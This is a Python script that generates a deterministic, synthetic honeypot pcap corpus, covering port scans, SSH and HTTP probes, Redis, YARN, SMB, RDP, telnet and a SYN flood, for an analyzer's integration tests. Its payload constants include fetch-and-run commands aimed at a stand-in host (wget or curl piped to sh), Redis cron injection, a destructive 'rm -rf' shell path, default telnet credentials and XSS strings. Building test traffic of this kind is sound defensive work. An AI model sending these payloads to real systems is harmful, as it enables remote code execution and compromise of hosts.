#!/usr/bin/env python3
"""Writes a realistic-looking honeypot archive for the report: six hours of scans, bots and a SYN flood.

One pcap per flow in the shipper's local layout (pcap/YYYY/MM/DD/HH/{ts}_{src}_{dst}_{sport}_{dport}.pcap), like a
day of lurker with storage: local. Deterministic (seeded). Used by tests/integration/test_analyzer_report.py and to
make docs/report.png:
    make_corpus.py OUTDIR [--hostile]       (--hostile adds a flow whose bytes try to break out of the page)
Prints the number of flows written.
"""
import os
import random
import struct
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import flowgen  # noqa: E402

SENSOR = "203.0.113.10"
START = 1795608000  # 2026-11-25 12:00:00 UTC
HOURS = 6
HOSTILE = (b"GET /<script>alert(1)</script> HTTP/1.1\r\nX: \"'quoted'\" </textarea></pre><img src=x onerror=alert(2)>"
           b"\x00NUL\xff\xfe\xc3\x28 invalid UTF-8 &amp; <!-- --> ]]>\r\n\r\n")


def client_hello(sni):
    def ext(t, body):
        return struct.pack(">HH", t, len(body)) + body
    name = sni.encode()
    exts = (ext(0, struct.pack(">HBH", len(name) + 3, 0, len(name)) + name) +
            ext(10, struct.pack(">H", 4) + struct.pack(">HH", 29, 23)) + ext(11, b"\x01\x00") +
            ext(16, struct.pack(">H", 3) + b"\x02h2") + ext(43, b"\x04" + struct.pack(">HH", 0x0304, 0x0303)) +
            ext(13, struct.pack(">HHH", 4, 0x0403, 0x0804)))
    ciphers = struct.pack(">HHHH", 0x1301, 0x1302, 0xc02b, 0xc02f)
    body = (struct.pack(">H", 0x0303) + bytes(32) + b"\x00" + struct.pack(">H", len(ciphers)) + ciphers +
            b"\x01\x00" + struct.pack(">H", len(exts)) + exts)
    hs = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(hs)) + hs


def dns_query(name, ident):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    return struct.pack(">HHHHHH", ident, 0x0100, 1, 0, 0, 0) + q + struct.pack(">HH", 1, 1)


YARN = (b"POST /ws/v1/cluster/apps HTTP/1.1\r\nHost: %s:8088\r\nUser-Agent: python-requests/2.31.0\r\n"
        b"Content-Type: application/json\r\nContent-Length: 246\r\n\r\n"
        b"{\"application-id\": \"application_1700000000000_0001\", \"application-name\": \"get-shell\", "
        b"\"am-container-spec\": {\"commands\": {\"command\": \"wget -qO- http://192.0.2.66/x.sh | sh\"}}, "
        b"\"application-type\": \"YARN\"}") % SENSOR.encode()
HTTP_PATHS = ["/", "/.env", "/wp-login.php", "/cgi-bin/luci/;stok=/locale?form=country", "/actuator/health",
              "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/.git/config",
              "/HNAP1/", "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.66/jaws;sh+/tmp/jaws"]
AGENTS = ["Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
          "curl/7.88.1", "Go-http-client/1.1", "python-requests/2.31.0", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]
SSH = [b"SSH-2.0-libssh_0.9.6\r\n", b"SSH-2.0-Go\r\n", b"SSH-2.0-OpenSSH_7.4\r\n", b"SSH-2.0-paramiko_3.4.0\r\n"]
REDIS = [b"*1\r\n$4\r\nINFO\r\n", b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n",
         b"*3\r\n$3\r\nSET\r\n$4\r\nbackup1\r\n$52\r\n\n\n*/2 * * * * curl -s http://192.0.2.66/b.sh | sh\n\n\r\n"]
SMB = bytes.fromhex("00000054ff534d4272000000001843c80000000000000000000000000000fffe00000000003100"
                    "024c414e4d414e312e3000024c4d312e325830303200024e54204c4d20302e313200")
RDP = bytes.fromhex("030000250ee000000000") + b"\x00Cookie: mstshash=Administr\r\n" + bytes.fromhex("0100080003000000")


def main():
    out = sys.argv[1]
    rng = random.Random(1337)
    flows = []  # (t, packets, src, sport, dport)
    port = iter(range(40000, 65000))
    heavy = ["198.51.100.%d" % n for n in (23, 77, 131, 200)]

    def src():
        return rng.choice(heavy) if rng.random() < 0.45 else "%s.%d" % (rng.choice(["198.51.100", "192.0.2"]),
                                                                      rng.randint(2, 254))

    def at(hour=None):
        h = rng.uniform(0, HOURS) if hour is None else hour
        return START + h * 3600 + rng.uniform(0, 60)

    def tcp(t, s, dport, payload=b"", banner=b"", kind="complete"):
        sp = next(port)
        flows.append((t, flowgen.tcp_flow(s, SENSOR, sp, dport, t, payload, banner, kind,
                                          cisn=rng.getrandbits(32), sisn=rng.getrandbits(32)), s, sp, dport))

    for scanner, hour in (("192.0.2.15", 0.4), ("198.51.100.77", 2.2), ("192.0.2.140", 4.6)):  # nmap SYN scans
        t = at(hour)
        for i, p in enumerate([21, 22, 23, 25, 80, 110, 135, 139, 143, 443, 445, 993, 1433, 3306, 3389, 5432, 5900,
                               6379, 8080, 8443, 9200, 27017]):
            tcp(t + i * 0.05, scanner, p, kind="reset")
    t = at(3.1)
    for i, p in enumerate(range(8000, 8090, 3)):  # masscan on a port range
        tcp(t + i * 0.01, "198.51.100.200", p, kind="reset")
    t = at(5.0)
    for i in range(70):  # a SYN flood from spoofed sources
        tcp(t + i * 0.2, "192.0.2.%d" % rng.randint(2, 254), rng.choice([80, 443, 22]), kind="spoofed")
    for _ in range(34):
        tcp(at(), src(), rng.choice([22, 22, 2222]), rng.choice(SSH), b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
    for _ in range(40):
        path = rng.choice(HTTP_PATHS)
        req = "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n" % (path, SENSOR, rng.choice(AGENTS))
        tcp(at(), src(), rng.choice([80, 80, 8080]), req.encode())
    for _ in range(14):
        tcp(at(), src(), 8088, YARN)
    for _ in range(12):
        tcp(at(), src(), 6379, rng.choice(REDIS))
    for _ in range(16):
        tcp(at(), src(), 443, client_hello(rng.choice(["example.com", "mail.example.net", SENSOR, "admin.example.org"])))
    for _ in range(10):
        tcp(at(), src(), 445, SMB)
    for _ in range(8):
        tcp(at(), src(), 3389, RDP)
    for _ in range(9):
        tcp(at(), src(), 23, rng.choice([b"root\r\nxc3511\r\n", b"admin\r\nadmin\r\nenable\r\nsh\r\n"]))
    for i in range(12):
        s, t = src(), at()
        flows.append((t, flowgen.udp_flow(s, SENSOR, 53000 + i, 53, t, dns_query(
            rng.choice(["example.com", "version.bind", "sl", "ip.example.net"]), rng.getrandbits(16))), s, 53000 + i, 53))
    if "--hostile" in sys.argv[2:]:
        tcp(START + HOURS * 3600 - 30, "192.0.2.66", 80, HOSTILE)
    for t, packets, s, sp, dp in flows:
        d = os.path.join(out, "pcap", time.strftime("%Y/%m/%d/%H", time.gmtime(t)))
        os.makedirs(d, exist_ok=True)
        flowgen.write_pcap(os.path.join(d, "%d_%s_%s_%d_%d.pcap" % (int(t), s, SENSOR, sp, dp)), packets)
    print(len(flows))


if __name__ == "__main__":
    main()
